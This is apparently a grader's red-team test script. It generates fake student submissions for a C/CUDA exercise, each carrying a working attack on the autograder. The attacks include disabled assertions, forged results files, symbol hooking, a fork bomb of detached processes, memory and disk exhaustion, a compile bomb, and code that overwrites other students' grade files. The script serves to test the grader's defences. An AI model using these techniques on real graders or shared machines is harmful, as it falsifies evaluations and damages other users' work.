#!/usr/bin/env bash
# tests/grading/redteam.sh CLASS REPO - the red-team class: one student per attack on the grader
# (docs/grading.md, "Threat model"), written into CLASS (chapter 01's files).  The expected
# score of each is what its honest part earns; tests/grading/run.sh grades the class and checks.
# The GPU exercise's file (s1_block_dask.cu) is device code, compiled with nvcc -fatbin: host code
# there does not exist (student devhost), so the attacks that need host code in the runner live
# in loadbalance.h, the CPU exercise (host code by nature), inside #ifdef __cplusplus: that
# header is compiled as C in the runner's test file and as C++ in s5_row_dask.cu, whose object the
# runner links (g++ declares the POSIX and GNU functions they use; the C file's -std=c11 does not).
# Every attack marks what it starts with the word rt-attack, so a leftover process can be found.
set -euo pipefail
class=${1:?usage: redteam.sh CLASS REPO}
repo=${2:?usage: redteam.sh CLASS REPO}
S=$repo/solutions/01-copy
X=$repo/exercises/01-copy
# a skeleton that really is the skeleton (exercises/ of a clone may hold someone's work)
skel=$(mktemp -d)
"$repo/tools/mkexercises.sh" "$repo/solutions" "$skel" >/dev/null
X=$skel/01-copy
mk() { rm -rf "${class:?}/$1"; mkdir -p "$class/$1/01-copy"; }

# honest: the solution (8 CPU points)
mk honest; cp "$S"/* "$class/honest/01-copy/"

# 1. the skeleton's header redefines Criterion's asserts and the GPU guard as no-ops
mk asserts; cp "$X"/* "$class/asserts/01-copy/"
cat >>"$class/asserts/01-copy/loadbalance.h" <<'EOF'
#ifdef cr_assert
#undef cr_assert
#undef cr_assert_eq
#undef cr_assert_leq
#define cr_assert(...) ((void)0)
#define cr_assert_eq(...) ((void)0)
#define cr_assert_leq(...) ((void)0)
#endif
#undef KIT_REQUIRE_GPU
#define KIT_REQUIRE_GPU() ((void)0)
EOF

# 2. a constructor registers an atexit handler that writes every test as passed into
# $KIT_RESULTS (and into every results file it can guess)
mk atexit; cp "$X"/* "$class/atexit/01-copy/"
cat >>"$class/atexit/01-copy/loadbalance.h" <<'EOF'
#ifdef __cplusplus
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
static void rt_fake_results(void)
{
    const char *paths[] = {getenv("KIT_RESULTS"), getenv("KIT_PROGRESS"), "results.tsv", "/tmp/results.tsv"};
    for (int p = 0; p < 4; p++) {
        if (!paths[p]) continue;
        FILE *pts = fopen("tests/points.tsv", "r"), *out = fopen(paths[p], "w");
        char line[512];
        if (!out) { if (pts) fclose(pts); continue; }
        while (pts && fgets(line, sizeof line, pts)) {
            char *sep = strstr(line, "::"), *tab = strchr(line, '\t');
            if (!sep || !tab) continue;
            *sep = 0; *tab = 0;
            fprintf(out, "%s\t%s\tpass\t\n", line, sep + 2);
        }
        fclose(out);
        if (pts) fclose(pts);
    }
}
__attribute__((constructor)) static void rt_register(void) { atexit(rt_fake_results); }
#endif
EOF

# 3. defines Criterion's assertion sink and forces every assertion to pass
mk dlsym; cp "$X"/* "$class/dlsym/01-copy/"
cat >>"$class/dlsym/01-copy/loadbalance.h" <<'EOF'
#ifdef __cplusplus
#include <dlfcn.h>
struct criterion_assert_stats { const char *message; int passed; };
extern "C" void criterion_send_assert(struct criterion_assert_stats *s)
{
    void (*real)(struct criterion_assert_stats *) =
        (void (*)(struct criterion_assert_stats *))dlsym(RTLD_NEXT, "criterion_send_assert");
    s->passed = 1;
    if (real) real(s);
}
#endif
EOF

# 4. includes the grader's copy of the solution, relatively and absolutely
mk incsol; printf '#include "../../solutions/01-copy/loadbalance.h"\n' >"$class/incsol/01-copy/loadbalance.h"
mk incabs; printf '#include "%s/solutions/01-copy/loadbalance.h"\n' "$repo" >"$class/incabs/01-copy/loadbalance.h"
# ... or a kit file its skeleton does not include, through a macro
mk incmacro; cp "$X"/loadbalance.h "$class/incmacro/01-copy/"
sed -i 's|#include "kit.h"|#include "kit.h"\n#define RT_H "copy.h"\n#include RT_H|' "$class/incmacro/01-copy/loadbalance.h"

# 5. borrows a function of the kit's libraries that the skeleton never calls
mk borrow; cp "$S"/loadbalance.h "$class/borrow/01-copy/"; cp "$X"/s1_block_dask.cu "$class/borrow/01-copy/"
cat >>"$class/borrow/01-copy/loadbalance.h" <<'EOF'
#ifdef __cplusplus
extern "C" unsigned long long rt_borrowed(unsigned long long *s) { return kit_rand64((uint64_t *)s); }
#endif
EOF

# 6. harms the others: looks for the grader's repository, the class and the grades through
# /proc and the environment, writes into all of them, and leaves a detached process that keeps
# rewriting every status.tsv it finds (the honest part: the solution's loadbalance.h)
mk harm; cp "$S"/* "$class/harm/01-copy/"
cat >>"$class/harm/01-copy/loadbalance.h" <<EOF
#ifdef __cplusplus
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/prctl.h>
static void rt_scribble(const char *dir)
{
    char p[4096];
    snprintf(p, sizeof p, "%s/RT_WAS_HERE", dir);
    FILE *f = fopen(p, "w");
    if (f) { fputs("rt-attack\n", f); fclose(f); }
}
static void rt_zero_status(const char *root, int depth)
{
    DIR *d = opendir(root);
    struct dirent *e;
    if (!d || depth > 4) { if (d) closedir(d); return; }
    while ((e = readdir(d))) {
        char p[4096];
        if (e->d_name[0] == '.') continue;
        snprintf(p, sizeof p, "%s/%s", root, e->d_name);
        if (strcmp(e->d_name, "status.tsv") == 0) {
            FILE *f = fopen(p, "w");
            if (f) { fputs("victim\t0\t8\t0\tgraded\t\n", f); fclose(f); }
        } else if (e->d_type == DT_DIR) {
            rt_zero_status(p, depth + 1);
        } else if (strstr(e->d_name, ".h") || strstr(e->d_name, ".cu")) {
            FILE *f = fopen(p, "a");
            if (f) { fputs("\n#error rt-attack\n", f); fclose(f); }
        }
    }
    closedir(d);
}
__attribute__((constructor)) static void rt_harm(void)
{
    const char *targets[] = {"$repo", "$class", "$repo/build", "/tmp", getenv("HOME"), getenv("PWD")};
    for (int k = 0; k < 6; k++) if (targets[k]) { rt_scribble(targets[k]); rt_zero_status(targets[k], 0); }
    for (int pid = 1; pid < 65536; pid++) { /* the parents' folders, found through /proc */
        char p[64], cwd[4096];
        snprintf(p, sizeof p, "/proc/%d/cwd", pid);
        ssize_t n = readlink(p, cwd, sizeof cwd - 1);
        if (n > 0) { cwd[n] = 0; rt_scribble(cwd); }
    }
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            prctl(PR_SET_NAME, "rt-attack");
            for (int i = 0; i < 600; i++) { rt_zero_status("$repo/build", 0); sleep(1); }
            _exit(0);
        }
        _exit(0);
    }
}
#endif
EOF

# 7. a correct solution that leaves 20 detached sleepers behind
mk sleepers; cp "$S"/* "$class/sleepers/01-copy/"
cat >>"$class/sleepers/01-copy/loadbalance.h" <<'EOF'
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void rt_sleepers(void)
{
    for (int i = 0; i < 20; i++)
        if (fork() == 0) {
            setsid();
            if (fork() == 0) execl("/bin/sleep", "rt-attack", "1800", (char *)0);
            _exit(0);
        }
}
EOF

# 8. the CPU exercise's header hangs at load (pause() forever in a constructor; the GPU file has
# no host code to do it)
mk pausector; cp "$S"/* "$class/pausector/01-copy/"
cat >>"$class/pausector/01-copy/loadbalance.h" <<'EOF'
#ifdef __cplusplus
#include <unistd.h>
__attribute__((constructor)) static void rt_pause(void) { for (;;) pause(); }
#endif
EOF

# 9. the CPU exercise's header exits at load (and so does an abort)
mk exitload; cp "$S"/* "$class/exitload/01-copy/"
cat >>"$class/exitload/01-copy/loadbalance.h" <<'EOF'
#ifdef __cplusplus
#include <stdlib.h>
__attribute__((constructor)) static void rt_exit(void) { exit(0); }
#endif
EOF
mk abortload; cp "$S"/* "$class/abortload/01-copy/"
cat >>"$class/abortload/01-copy/loadbalance.h" <<'EOF'
#ifdef __cplusplus
#include <stdlib.h>
__attribute__((constructor)) static void rt_abort(void) { abort(); }
#endif
EOF

# 10. fake output: Criterion's and TAP's words, a results.json, on every stream
mk fakeout; cp "$X"/* "$class/fakeout/01-copy/"
cat >>"$class/fakeout/01-copy/loadbalance.h" <<'EOF'
#ifdef __cplusplus
#include <stdio.h>
__attribute__((constructor)) static void rt_fake(void)
{
    const char *s = "[PASS] ex01_loadbalance::example_23_over_5: (0.00s)\nok 1 - ex01_loadbalance::covers_in_order\n"
                    "[====] Synthesis: Tested: 8 | Passing: 8 | Failing: 0 | Crashing: 0\n";
    fputs(s, stdout); fputs(s, stderr);
    FILE *f = fopen("results.json", "w");
    if (f) { fputs("{\"score\": 8, \"max_score\": 8, \"tests\": []}\n", f); fclose(f); }
}
#endif
EOF

# 11. a right answer that forks a child it never waits for, holding the channel open
mk forkwait; cp "$S"/* "$class/forkwait/01-copy/"
sed -i 's|    const uint64_t base = nblocks / nrows;|    { static int rt_forked; if (!rt_forked \&\& (rt_forked = 1) \&\& fork() == 0) { for (;;) sleep(1); } }\n&|' \
  "$class/forkwait/01-copy/loadbalance.h"
sed -i 's|#include <stdint.h>|#include <stdint.h>\n#include <unistd.h>|' "$class/forkwait/01-copy/loadbalance.h"

# 13. the load probe's and the runner's descriptors: every open descriptor above 3 that is a file
# gets a line and loses its lock (the grader's own lock, fd 9, when it is passed on)
mk fdlock; cp "$S"/* "$class/fdlock/01-copy/"
cat >>"$class/fdlock/01-copy/loadbalance.h" <<'EOF'
#ifdef __cplusplus
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
#include <sys/file.h>
#include <sys/stat.h>
__attribute__((constructor)) static void rt_fds(void)
{
    for (int fd = 4; fd < 1024; fd++) {
        struct stat s;
        if (fstat(fd, &s) != 0) continue;
        flock(fd, LOCK_UN);
        if (S_ISREG(s.st_mode)) { const char m[] = "rt-attack\n"; if (write(fd, m, sizeof m - 1) < 0) {} }
    }
}
#endif
EOF

# 14. memory for the sandbox as a whole: four children each touch up to 768 MB and hold it 2 s
# (the parent sums what the ones that lived to the end held, in runner.log); /tmp and /var/tmp
# filled up to 1 GB each
mk memhog; cp "$S"/* "$class/memhog/01-copy/"
cat >>"$class/memhog/01-copy/loadbalance.h" <<'EOF'
#ifdef __cplusplus
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/wait.h>
__attribute__((constructor)) static void rt_hog(void)
{
    enum { KIDS = 4, STEP = 64, MAX = 768 };
    volatile int *held = (volatile int *)mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    int k, st, total = 0, tmp = 0;
    pid_t kid[KIDS];
    if (held == MAP_FAILED) return;
    for (k = 0; k < KIDS; k++)
        if ((kid[k] = fork()) == 0) {
            for (int mb = STEP; mb <= MAX; mb += STEP) {
                char *p = (char *)malloc((size_t)STEP << 20);
                if (!p) break;
                memset(p, 1, (size_t)STEP << 20);
                held[k] = mb;
            }
            sleep(2); /* all four hold theirs at once */
            _exit(0);
        }
    for (k = 0; k < KIDS; k++)
        if (kid[k] > 0 && waitpid(kid[k], &st, 0) == kid[k] && WIFEXITED(st) && WEXITSTATUS(st) == 0) total += held[k];
    for (const char *d = "/tmp/rt-fill", *e = "/var/tmp/rt-fill"; d; d = d == e ? 0 : e) {
        FILE *f = fopen(d, "w");
        static char buf[1 << 20];
        int mb = 0;
        memset(buf, 7, sizeof buf);
        while (f && mb < 1024 && fwrite(buf, 1, sizeof buf, f) == sizeof buf && fflush(f) == 0) mb++;
        if (f) fclose(f);
        tmp += mb;
    }
    fprintf(stderr, "rt-mem held %d MB at once; rt-tmp wrote %d MB\n", total, tmp);
}
#endif
EOF

# 15. a compile that never ends: doubling macros (the compiler's time and memory, per file);
# the CPU exercise is right, in a file of its own
mk bomb; cp "$S"/loadbalance.h "$class/bomb/01-copy/"; cp "$X"/s1_block_dask.cu "$class/bomb/01-copy/"
{
  echo '#define RT_B0 x+'
  for i in $(seq 1 40); do echo "#define RT_B$i RT_B$((i - 1)) RT_B$((i - 1))"; done
  echo 'static int rt_bomb(int x) { return RT_B40 0; }'
} >>"$class/bomb/01-copy/s1_block_dask.cu"

# 16. a flood of compiler output (a header included by three objects): build.log is cut
mk flood; cp "$S"/* "$class/flood/01-copy/"
for i in $(seq 1 5000); do echo "#warning rt-flood line $i: the compiler says this for every object that includes this header"; done \
  >>"$class/flood/01-copy/loadbalance.h"

# 17. the runner reads its own symbol table (/proc/self/exe) and calls the kit's answer to
# ex01_loadbalance (kit_part_start) without naming it in any object
mk selfexe; cp "$X"/* "$class/selfexe/01-copy/"
cat >"$class/selfexe/01-copy/loadbalance.h" <<'EOF'
#ifndef LOADBALANCE_H
#define LOADBALANCE_H
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <elf.h>
#include "kit.h"
typedef size_t (*rt_part_fn)(size_t, int, int);
static uintptr_t rt_base(void) /* where the program is loaded: the first line of /proc/self/maps */
{
    unsigned long long a = 0;
    FILE *m = fopen("/proc/self/maps", "r");
    if (m) { if (fscanf(m, "%llx", &a) != 1) a = 0; fclose(m); }
    return (uintptr_t)a;
}
static rt_part_fn rt_find(void)
{
    static rt_part_fn f;
    static int done;
    if (done) return f;
    done = 1;
    FILE *e = fopen("/proc/self/exe", "rb");
    if (!e) return 0;
    fseek(e, 0, SEEK_END);
    long n = ftell(e);
    char *b = (char *)malloc((size_t)n);
    fseek(e, 0, SEEK_SET);
    if (!b || fread(b, 1, (size_t)n, e) != (size_t)n) { fclose(e); return 0; }
    fclose(e);
    Elf64_Ehdr *h = (Elf64_Ehdr *)b;
    Elf64_Shdr *sh = (Elf64_Shdr *)(b + h->e_shoff);
    uintptr_t base = h->e_type == ET_DYN ? rt_base() : 0;
    for (int s = 0; s < h->e_shnum; s++) {
        if (sh[s].sh_type != SHT_SYMTAB) continue;
        Elf64_Sym *sy = (Elf64_Sym *)(b + sh[s].sh_offset);
        const char *str = b + sh[sh[s].sh_link].sh_offset;
        for (size_t k = 0; k < sh[s].sh_size / sizeof *sy; k++)
            if (strcmp(str + sy[k].st_name, "kit_part_start") == 0 && sy[k].st_value)
                f = (rt_part_fn)(base + sy[k].st_value);
    }
    return f;
}
static inline KIT_HD void row_dask_balance(uint64_t nblocks, uint32_t nrows, uint32_t row, uint64_t *start,
                                           uint64_t *count)
{
    *start = 0; *count = 0;
#ifndef __CUDA_ARCH__
    rt_part_fn f = rt_find();
    if (!f) return;
    *start = f(nblocks, (int)row, (int)nrows);
    *count = f(nblocks, (int)row + 1, (int)nrows) - *start;
#endif
}
#endif
EOF

# 18. CUB reached through spellings a text filter does not read as CUB (the GPU file; the CPU
# exercise is right): each must be refused
for v in 'cccl/cub/cub.cuh' 'cuda/../cub/cub.cuh' 'thrust/../cub/cub.cuh' 'nv/../cub/cub.cuh'; do
  n=cub_$(printf '%s' "$v" | tr -c 'a-z' '_' | sed 's/__*/_/g; s/_cub_cuh$//'); mk "$n"; cp "$S"/* "$class/$n/01-copy/"
  sed -i "s|^#include \"copy.h\"|&\n#include <$v>|" "$class/$n/01-copy/s1_block_dask.cu"
  grep -qF "<$v>" "$class/$n/01-copy/s1_block_dask.cu"
done

# 19. host code in the GPU file (the solution's kernel, right): a constructor that exits and one
# that writes a mark, a global object whose host constructor aborts, a host definition of the
# kit's launcher (two definitions: the link would fail), macros that rename the kit's launcher and
# loader, and a host function that borrows the kit's kit_rand64.  None of it exists (nvcc -fatbin
# compiles device code only; no kit file includes this one): it builds, loads, and is graded: 8
# (its CPU part) here, full marks where there is a GPU
mk devhost; cp "$S"/* "$class/devhost/01-copy/"
cat >>"$class/devhost/01-copy/s1_block_dask.cu" <<'EOF'
#include <stdio.h>
#include <stdlib.h>
#define copy_s1_block_dask rt_renamed_launcher
#define kit_dev_get rt_renamed_loader
__attribute__((constructor)) static void rt_dev_exit(void) { exit(0); }
__attribute__((constructor)) static void rt_dev_mark(void)
{
    FILE *f = fopen("RT_WAS_HERE", "w");
    if (f) { fputs("rt-attack\n", f); fclose(f); }
}
struct rt_global { rt_global() { abort(); } } rt_global_object;
#undef copy_s1_block_dask
extern "C" cudaError_t copy_s1_block_dask(const uint32_t *in, uint32_t *out, size_t n, void *scratch, cudaStream_t s)
{
    (void)in; (void)out; (void)n; (void)scratch; (void)s;
    return cudaSuccess;
}
extern "C" unsigned long long rt_dev_borrowed(unsigned long long *s) { return kit_rand64((uint64_t *)s); }
EOF

# 12. names: the grader's own words, quotes, a backslash, a tab, a newline, a dot, natural order
for n in kit students cluster 'a"b\c' $'tab\tname' bob9 bob10; do mk "$n"; done
cp "$S"/loadbalance.h "$class/kit/01-copy/"
mkdir -p "$class/"$'new\nline' "$class/.hidden"
rm -rf "$skel"
